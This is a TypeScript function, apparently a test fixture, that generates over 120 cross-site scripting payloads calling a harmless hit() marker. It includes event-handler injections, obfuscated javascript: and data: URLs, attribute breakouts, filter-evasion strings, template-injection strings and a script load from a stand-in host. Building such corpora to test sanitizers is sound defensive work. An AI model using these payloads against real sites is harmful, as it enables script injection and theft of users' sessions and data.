/** Texts that run `hit()` wherever text is taken for markup, an address, a style or a template. At least 120. */
export function xssPayloads(): string[] {
  const events = ['onload', 'onerror', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerover']
  const elements = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe', 'marquee']
  const inElements = elements.flatMap((element) => events.map((event) => `<${element} ${event}=hit()>`))
  const schemes = [
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    'java\tscript:hit()',
    'javascript&colon;hit()',
    '&#106;avascript:hit()',
    'javascript://example.com/%0ahit()',
    'https:javascript:hit()',
    'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
    'vbscript:hit()',
    'blob:hit()',
    'view-source:javascript:hit()',
  ]
  const asLinks = schemes.flatMap((scheme) => [scheme, `<a href="${scheme}">x</a>`, `[x](${scheme})`])
  const others = [
    '<script>hit()</script>',
    '</p><script>hit()</script><p>',
    '<scr<script>ipt>hit()</scr</script>ipt>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '"><script>hit()</script>',
    "'><img src=x onerror=hit()>",
    '" onmouseover="hit()" x="',
    "' autofocus onfocus='hit()' x='",
    'https://example.com/"onmouseover="hit()',
    "https://example.com/'onclick='hit()",
    'https://example.com/<img src=x onerror=hit()>',
    'https://example.com/`onclick=hit()`',
    '&lt;script&gt;hit()&lt;/script&gt;',
    '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
    '<style>@import "javascript:hit()"</style>',
    '<link rel=stylesheet href=javascript:hit()>',
    '<div style="background:url(javascript:hit())">',
    '<math><mi xlink:href="javascript:hit()">x</mi></math>',
    '<svg><animate onbegin=hit() attributeName=x dur=1s>',
    '<svg><script>hit()</script></svg>',
    '<object data="javascript:hit()">',
    '<embed src="javascript:hit()">',
    '<form action="javascript:hit()"><button>x',
    '<base href="javascript:hit()//">',
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    '<template><script>hit()</script></template>',
    '{{constructor.constructor("hit()")()}}',
    '$' + '{hit()}',
  ]
  return [...inElements, ...asLinks, ...others]
}
